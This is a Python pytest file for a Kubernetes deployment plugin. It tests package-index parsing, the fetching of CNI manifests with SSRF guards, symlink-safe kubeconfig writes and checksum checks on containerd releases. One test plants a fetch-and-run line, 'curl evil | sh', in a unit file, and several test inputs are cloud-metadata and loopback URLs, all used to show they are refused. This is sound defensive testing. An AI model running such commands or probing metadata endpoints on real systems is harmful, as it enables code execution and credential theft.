"""Work on the machine running cfy: package index, CNI manifest, local kubeconfig."""
import dataclasses
import gzip
import hashlib
import os
import stat
import time
from pathlib import Path

import pytest

from kub_plugin.cluster.settings import ClusterSettings
from kub_plugin.errors import ConfigError
from kub_plugin.local import containerd, downloads, kubeconfig, manifests, packages

# upstream's containerd.service of v2.1.9, as the lab serves it
UPSTREAM_UNIT = Path(__file__).parents[2] / "lab" / "kub_lab" / "upstream" / "containerd.service"

INDEX = """Package: kubeadm
Version: 1.31.1-1.1
Architecture: amd64

Package: kubeadm
Version: 1.31.10-1.1
Architecture: amd64

Package: kubeadm
Version: 1.31.10-1.1
Architecture: arm64

Package: kubelet
Version: 1.31.10-1.1
Architecture: amd64

Package: kubelet
Version: 1.31.10-1.1
Architecture: arm64

Package: kubectl
Version: 1.31.10-1.1
Architecture: amd64

Package: kubectl
Version: 1.31.10-1.1
Architecture: arm64

Package: kubectl
Version: 1.32.0-1.1
Architecture: amd64

Package: cri-tools
Version: 1.31.1-1.1
Architecture: amd64

Package: cri-tools
Version: 1.31.1~rc1-1.1
Architecture: amd64

Package: kubernetes-cni
Version: 1.5.1-1.1
Architecture: amd64
"""


@pytest.fixture
def repository(tmp_path):
    folder = tmp_path / "v1.31"
    folder.mkdir()
    (folder / "Packages.gz").write_bytes(gzip.compress(INDEX.encode()))
    downloads._cache.clear()
    yield ClusterSettings(kubernetes_version="1.31", package_repository_url=f"file://{tmp_path}/v{{version}}/")
    downloads._cache.clear()


def test_versions_are_the_newest_of_the_minor_for_every_architecture(repository):
    assert packages.repository_versions(repository, ["amd64"]) == {
        "kubelet": "1.31.10-1.1", "kubeadm": "1.31.10-1.1", "kubectl": "1.31.10-1.1",
        "cri-tools": "1.31.1-1.1", "kubernetes-cni": "1.5.1-1.1"}


def test_a_dependency_missing_for_an_architecture_is_refused(repository):
    with pytest.raises(ConfigError, match="has no cri-tools for amd64, arm64"):
        packages.repository_versions(repository, ["amd64", "arm64"])


def test_a_minor_the_repository_lacks_is_refused(repository, tmp_path):
    other = ClusterSettings(kubernetes_version="1.31", package_repository_url=f"file://{tmp_path}/nothing/")
    with pytest.raises(ConfigError, match="no package index"):
        packages.repository_versions(other, ["amd64"])


@pytest.mark.parametrize("older,newer", [("1.31.2-1.1", "1.31.10-1.1"), ("1.0~rc1", "1.0"), ("1:0.1", "2:0.0"),
                                         ("1.0-1", "1.0-1.1"), ("1.0a", "1.0b"), ("1.0", "1.0+b1")])
def test_the_newest_dependency_is_the_newest_in_dpkgs_order(repository, tmp_path, older, newer):
    for first, second in ((older, newer), (newer, older)):   # wherever each stands in the index
        index = INDEX.replace("Version: 1.31.1-1.1", f"Version: {first}").replace("Version: 1.31.1~rc1-1.1",
                                                                                 f"Version: {second}")
        (tmp_path / "v1.31" / "Packages.gz").write_bytes(gzip.compress(index.encode()))
        downloads._cache.clear()
        assert packages.repository_versions(repository, ["amd64"])["cri-tools"] == newer


def test_an_index_is_read_unpacked_and_past_what_kub_does_not_read(repository, tmp_path):
    """Packages where Packages.gz is missing; multi-line fields and a version apt could not install are passed."""
    (tmp_path / "v1.31" / "Packages.gz").unlink()
    (tmp_path / "v1.31" / "Packages").write_text(
        INDEX + "\nPackage: cri-tools\nVersion: 9 not a version\nArchitecture: amd64\n\n"
                "Package: kubernetes-cni\nVersion: 1.6.0-1.1\nArchitecture: amd64\nDescription: CNI\n"
                " Version: 9.9.9\n")
    assert packages.repository_versions(repository, ["amd64"])["cri-tools"] == "1.31.1-1.1"
    assert packages.repository_versions(repository, ["amd64"])["kubernetes-cni"] == "1.6.0-1.1"


def test_a_damaged_index_is_refused_naming_the_setting(repository, tmp_path):
    (tmp_path / "v1.31" / "Packages.gz").write_bytes(gzip.compress(INDEX.encode())[:40])
    with pytest.raises(ConfigError, match=f"^cannot read the package index at file://{tmp_path}/v1.31/ .*: check "
                                          f"package_repository_url"):
        packages.repository_versions(repository, ["amd64"])


HERE = manifests.Sources(lambda path: {"cni/in-blueprint.yaml": CNI}[path], local_mode=True)
CNI = b"apiVersion: v1\nkind: Namespace\nmetadata: {name: kube-flannel}\n"


def test_cni_manifest_must_be_utf8(tmp_path):
    path = tmp_path / "cni.yaml"
    path.write_bytes(b"kind: \xff\xfe")
    with pytest.raises(ConfigError, match="is not UTF-8 text"):
        manifests.cni_manifest(str(path), HERE, "master")
    path.write_bytes(CNI)
    # what is uploaded is the objects parsed, written out again
    assert manifests.cni_manifest(str(path), HERE, "master") == ("apiVersion: v1\nkind: Namespace\nmetadata:\n"
                                                                 "  name: kube-flannel\n")
    assert "kube-flannel" in manifests.cni_manifest("cni/in-blueprint.yaml", HERE, "master")


@pytest.mark.parametrize("text,message", [
    ("apiVersion: v1\nkind: Config\nclusters: []\nusers: [{name: admin, user: {token: abc}}]\n",
     "node master: cluster.cni_manifest {path} document 1 (Config) has no metadata.name"),
    ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
     "node master: cluster.cni_manifest {path} document 1 is text, not a Kubernetes object"),
    ("---\n", "node master: cluster.cni_manifest {path} holds no Kubernetes object"),
])
def test_a_cni_manifest_that_is_no_kubernetes_objects_is_refused(tmp_path, text, message):
    path = tmp_path / "file"
    path.write_text(text)
    with pytest.raises(ConfigError) as err:
        manifests.cni_manifest(str(path), HERE, "master")
    assert message.format(path=path) in str(err.value)
    assert "abc" not in str(err.value) and "b3Bl" not in str(err.value)


def test_an_absolute_cni_manifest_is_refused_on_a_manager(tmp_path):
    (tmp_path / "cni.yaml").write_bytes(CNI)
    with pytest.raises(ConfigError, match="an absolute path names a file of the Cloudify Manager's worker"):
        manifests.cni_manifest(str(tmp_path / "cni.yaml"), manifests.Sources(HERE.get_resource, local_mode=False), "m")


@pytest.mark.parametrize("url,message", [
    ("https://169.254.169.254/latest/meta-data/", "169.254.169.254 resolves to 169.254.169.254, a link-local address"),
    ("https://[fd00:ec2::254]/latest/", "resolves to fd00:ec2::254, a cloud metadata address"),
    ("https://100.100.100.200/latest/", "a cloud metadata address"),
    ("https://127.0.0.2:1/x.yaml", "resolves to 127.0.0.2, a loopback address"),
    ("https://[::ffff:127.0.0.1]/x.yaml", "a loopback address"),
    ("https://localhost/x.yaml", "localhost resolves to"),
    ("https://0.0.0.0/x.yaml", "an unspecified address"),
])
def test_loopback_link_local_and_metadata_hosts_are_refused(url, message):
    with pytest.raises(ConfigError) as err:
        manifests.cni_manifest(url, HERE, "master")
    assert f"cluster.cni_manifest {url} is not fetched: " in str(err.value)
    assert message in str(err.value)


def answer(status, body=b"", headers=(), wait=0):
    """What a test server says to a GET: status, headers (Content-Length unless given), body."""
    def respond(handler):
        time.sleep(wait)
        handler.send_response(status)
        for name, value in headers or [("Content-Length", str(len(body)))]:
            handler.send_header(name, value)
        handler.end_headers()
        handler.wfile.write(body)
    return respond


@pytest.fixture
def mirror(monkeypatch):
    """An HTTP server on this machine that stands for a mirror elsewhere (its loopback address is let through, any
    other refused as link-local); routes maps a path to what it answers (answer()). Failures are tried again at
    once, not after a wait."""
    import http.server
    import threading
    routes, asked = {}, []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            routes[self.path](self)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setattr(downloads, "_why_refused",
                        lambda address: "" if address == "127.0.0.1" else "a link-local address")
    monkeypatch.setattr(downloads, "RETRIES", downloads.RETRIES.new(backoff_factor=0))
    downloads._cache.clear()
    yield f"http://127.0.0.1:{server.server_port}", routes, asked
    server.shutdown()
    downloads._cache.clear()


PLAIN_HTTP = manifests.Sources(None, local_mode=True, allow_plain_http=True)


@pytest.mark.parametrize("location,message", [
    ("http://169.254.169.254/latest/meta-data/", "169.254.169.254 resolves to 169.254.169.254, a link-local address"),
    ("ftp://169.254.169.254/x", "it redirects to ftp://169.254.169.254/x, which is not https or http"),
])
def test_a_redirect_to_a_link_local_host_is_refused(mirror, location, message):
    base, routes, asked = mirror
    routes["/cni.yaml"] = answer(302, headers=[("Location", location)])
    with pytest.raises(ConfigError, match=f"^cluster.cni_manifest {base}/cni.yaml is not fetched: .*{message}"):
        manifests.cni_manifest(f"{base}/cni.yaml", PLAIN_HTTP, "master")
    assert asked == ["/cni.yaml"]


def test_redirects_are_followed_here_and_a_loop_is_cut(mirror):
    base, routes, asked = mirror
    routes["/a"] = answer(301, headers=[("Location", "/b")])
    routes["/b"] = answer(307, headers=[("Location", f"{base}/cni.yaml")])
    routes["/cni.yaml"] = answer(200, CNI)
    assert "kube-flannel" in manifests.cni_manifest(f"{base}/a", PLAIN_HTTP, "master")
    assert asked == ["/a", "/b", "/cni.yaml"]
    routes["/loop"] = answer(302, headers=[("Location", "/loop")])
    with pytest.raises(ConfigError, match=r"/loop cannot be fetched \(more than 10 redirects\): check the URL"):
        manifests.cni_manifest(f"{base}/loop", PLAIN_HTTP, "master")


def test_a_connection_goes_only_to_the_address_that_was_checked(mirror, monkeypatch):
    """The host is resolved again when the connection is made: an answer that changed since is refused too."""
    base, routes, asked = mirror
    routes["/cni.yaml"] = answer(200, CNI)
    answers = iter(["", "a loopback address"])
    monkeypatch.setattr(downloads, "_why_refused", lambda address: next(answers))
    with pytest.raises(ConfigError, match="is not fetched: 127.0.0.1 resolves to 127.0.0.1, a loopback address"):
        manifests.cni_manifest(f"{base}/cni.yaml", PLAIN_HTTP, "master")
    assert asked == []


def test_a_server_error_is_tried_again_and_one_that_lasts_is_named(mirror):
    base, routes, asked = mirror
    replies = iter([answer(503), answer(502), answer(200, b"index")])
    routes["/Packages"] = lambda handler: next(replies)(handler)
    assert downloads.fetch(f"{base}/Packages") == b"index"
    assert asked == ["/Packages"] * 3
    routes["/broken"] = answer(500)
    with pytest.raises(downloads.DownloadError, match="^HTTP 500$") as failed:
        downloads.fetch(f"{base}/broken")
    assert failed.value.missing and asked.count("/broken") == 4   # the first try and 3 more
    routes["/gone"] = answer(404)
    with pytest.raises(downloads.DownloadError, match="^HTTP 404$"):
        downloads.fetch(f"{base}/gone")
    assert asked.count("/gone") == 1


def test_a_download_larger_than_its_cap_is_refused(mirror):
    base, routes, _ = mirror
    routes["/said"] = answer(200, b"x" * 2048)
    routes["/unsaid"] = answer(200, b"x" * 2048, headers=[("Content-Type", "application/gzip")])
    for path in ("/said", "/unsaid"):   # with a Content-Length, and without one (read until the server closes)
        with pytest.raises(downloads.DownloadError, match="^larger than 0 MiB$"):
            downloads.fetch(base + path, limit=1024)
    assert downloads.fetch(base + "/unsaid", limit=4096) == b"x" * 2048


def test_an_unreachable_or_silent_server_is_one_line_naming_the_url(mirror):
    import socket
    base, routes, _ = mirror
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()
    with pytest.raises(ConfigError) as refused:
        manifests.cni_manifest(f"http://127.0.0.1:{port}/cni.yaml", PLAIN_HTTP, "master")
    assert str(refused.value) == (f"cluster.cni_manifest http://127.0.0.1:{port}/cni.yaml cannot be fetched "
                                  f"(Connection refused): check the URL and that this machine reaches it, or give a "
                                  f"local copy's path")
    routes["/slow"] = answer(200, CNI, wait=2)
    with pytest.raises(downloads.DownloadError, match="^timed out$"):
        downloads.fetch(f"{base}/slow", timeout=0.2)


def test_kubeconfig_goes_beside_a_file_kub_did_not_write_and_over_its_own(tmp_path):
    users = tmp_path / "config"
    users.write_text("contexts: [theirs]\n")
    assert kubeconfig.place(str(users), "SECRET", {}, "kub") == (f"{users}.kub-kub", str(users))
    beside = f"{users}.kub-kub"
    assert kubeconfig.write(beside, "SECRET")
    # kub's own file (recorded, or holding this very text) is written over
    assert kubeconfig.place(beside, "NEW", {beside: kubeconfig.sha256("SECRET")}, "kub") == (beside, "")
    assert kubeconfig.place(beside, "SECRET", {}, "kub") == (beside, "")
    # neither free nor kub's: refused, both left
    with open(beside, "a") as f:
        f.write("# edited\n")
    with pytest.raises(ConfigError, match=f"local_kubeconfig_path {users} and {beside} are files kub did not write"):
        kubeconfig.place(str(users), "SECRET", {beside: kubeconfig.sha256("SECRET")}, "kub")
    assert users.read_text() == "contexts: [theirs]\n"


def test_kubeconfig_is_written_0600_through_a_new_file_never_through_a_planted_link(tmp_path):
    target, victim = tmp_path / "kube" / "admin.conf", tmp_path / "victim"
    victim.write_text("keep")
    target.parent.mkdir()
    os.symlink(victim, target)
    # a link is not kub's: its file goes beside it
    assert kubeconfig.place(str(target), "SECRET", {}, "d") == (f"{target}.kub-d", str(target))
    os.unlink(target)
    assert kubeconfig.write(str(target), "SECRET")
    assert victim.read_text() == "keep" and not target.is_symlink()
    assert target.read_text() == "SECRET" and stat.S_IMODE(target.stat().st_mode) == 0o600
    assert not kubeconfig.write(str(target), "SECRET")   # unchanged: not rewritten
    os.chmod(target, 0o666)                                    # a loose mode is repaired
    assert kubeconfig.write(str(target), "SECRET")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in target.parent.iterdir()] == ["admin.conf"]


def test_uninstall_removes_only_the_kubeconfig_kub_wrote(tmp_path):
    path, victim = tmp_path / "kub.conf", tmp_path / "victim"
    sha = kubeconfig.sha256("SECRET")
    path.write_text("SECRET\n# mine now\n")
    assert kubeconfig.remove(str(path), sha) == (f"left the local kubeconfig {path} as it is: it changed since "
                                                 f"kub wrote it (edited by hand?); remove it yourself if it is "
                                                 f"not needed")
    assert path.exists()
    assert kubeconfig.remove(str(path), None).startswith(f"left the local kubeconfig {path} as it is: kub has "
                                                         f"no record")
    path.write_text("SECRET")
    assert kubeconfig.remove(str(path), sha) == f"removed the local kubeconfig {path}"
    assert not path.exists() and kubeconfig.remove(str(path), sha) == ""
    victim.write_text("SECRET")
    os.symlink(victim, path)   # a link put there since is neither followed nor removed
    assert kubeconfig.remove(str(path), sha).startswith("left") and victim.exists() and path.is_symlink()


@pytest.fixture
def release_mirror(tmp_path):
    """containerd's and runc's release layout, as a mirror on disk."""
    import hashlib
    c = tmp_path / "containerd" / "v2.1.9"
    r = tmp_path / "runc" / "v1.3.3"
    c.mkdir(parents=True)
    r.mkdir(parents=True)
    (c / "containerd-2.1.9-linux-amd64.tar.gz").write_bytes(b"tarball")
    (c / "containerd-2.1.9-linux-amd64.tar.gz.sha256sum").write_text(
        hashlib.sha256(b"tarball").hexdigest() + "  containerd-2.1.9-linux-amd64.tar.gz\n")
    (r / "runc.amd64").write_bytes(b"runc")
    (r / "runc.sha256sum").write_text(f"{hashlib.sha256(b'other').hexdigest()} *runc.arm64\n"
                                      f"{hashlib.sha256(b'runc').hexdigest()} *runc.amd64\n")
    (c / "containerd.service").write_bytes(UPSTREAM_UNIT.read_bytes())
    downloads._cache.clear()
    yield ClusterSettings(containerd_url=f"file://{tmp_path}/containerd/v{{version}}/containerd-{{version}}-linux-"
                                         f"{{arch}}.tar.gz",
                          runc_url=f"file://{tmp_path}/runc/v{{runc_version}}/runc.{{arch}}",
                          containerd_unit_url=f"file://{tmp_path}/containerd/v{{version}}/containerd.service"), c
    downloads._cache.clear()


def test_containerd_release_is_checked_against_its_published_sums(release_mirror):
    cluster, _ = release_mirror
    release = containerd.containerd_release(cluster, "amd64")
    assert (release.tarball, release.runc) == (b"tarball", b"runc")
    assert release.record.startswith("containerd=2.1.9 ") and " runc=1.3.3 " in release.record


def test_a_damaged_containerd_tarball_is_refused(release_mirror):
    cluster, folder = release_mirror
    (folder / "containerd-2.1.9-linux-amd64.tar.gz").write_bytes(b"tampered")
    with pytest.raises(ConfigError, match="containerd-2.1.9-linux-amd64.tar.gz: its sha256 .* is not the .* that "
                                          ".*sha256sum publishes"):
        containerd.containerd_release(cluster, "amd64")


def test_an_architecture_the_sums_do_not_list_is_refused(release_mirror):
    cluster, folder = release_mirror
    with pytest.raises(ConfigError, match="cannot download .*arm64.tar.gz"):
        containerd.containerd_release(cluster, "arm64")


def test_a_unit_that_is_not_upstreams_is_refused_naming_its_url_and_sums(release_mirror):
    cluster, folder = release_mirror
    unit = folder / "containerd.service"
    tampered = unit.read_text().replace("ExecStartPre=", "ExecStartPre=/bin/sh -c 'curl evil | sh'\nExecStartPre=")
    unit.write_text(tampered)
    found = hashlib.sha256(tampered.encode()).hexdigest()
    with pytest.raises(ConfigError) as refused:
        containerd.containerd_release(cluster, "amd64")
    assert str(refused.value) == (
        f"file://{folder}/containerd.service has sha256 {found}, not "
        f"1941362cbaa89dd591b99c32b050d82c583d3cd2e5fa63085d7017457ec5fca8, that of containerd 2.1.9's upstream unit: "
        f"point cluster.containerd_unit_url at upstream's containerd.service of v2.1.9 (or a mirror that serves it "
        f"unchanged)")


def test_a_containerd_release_whose_unit_kub_has_no_sum_for_is_refused(release_mirror):
    cluster, _ = release_mirror
    with pytest.raises(ConfigError, match=r"^kub knows no sha256 of containerd 2\.9\.0's systemd unit \(only of "
                                          r"1\.7\.0-1\.7\.34, 2\.0\.0-2\.0\.11, 2\.1\.0-2\.2\.7\): set "
                                          r"cluster\.containerd_version to one of those$"):
        containerd.containerd_release(dataclasses.replace(cluster, containerd_version="2.9.0"), "amd64")


def test_downloads_are_shared_within_a_run_and_fetched_again_once_old(repository, tmp_path, monkeypatch):
    """A long-lived process (a manager's worker) sees a repository's new patch: the index is kept 10 minutes."""
    assert packages.repository_versions(repository, ["amd64"])["kubelet"] == "1.31.10-1.1"
    newer = INDEX.replace("Version: 1.31.10-1.1", "Version: 1.31.11-1.1")
    assert newer != INDEX
    (tmp_path / "v1.31" / "Packages.gz").write_bytes(gzip.compress(newer.encode()))
    assert packages.repository_versions(repository, ["amd64"])["kubelet"] == "1.31.10-1.1"   # the same run
    later = time.monotonic() + downloads.CACHE_SECONDS + 1
    monkeypatch.setattr(downloads.time, "monotonic", lambda: later)
    assert packages.repository_versions(repository, ["amd64"])["kubelet"] == "1.31.11-1.1"
    assert len(downloads._cache) == 1   # what was older is gone from memory


def test_file_urls_are_refused_on_a_manager(tmp_path):
    mirror = ClusterSettings(containerd_unit_url=f"file://{tmp_path}/containerd.service")
    manifests.check_url_settings(mirror, HERE)
    with pytest.raises(ConfigError, match=f"^cluster.containerd_unit_url file://{tmp_path}/containerd.service: a "
                                          f"file:// URL names a file of the Cloudify Manager's worker"):
        manifests.check_url_settings(mirror, manifests.Sources(None, local_mode=False))
    manifests.check_url_settings(ClusterSettings(), manifests.Sources(None, local_mode=False))
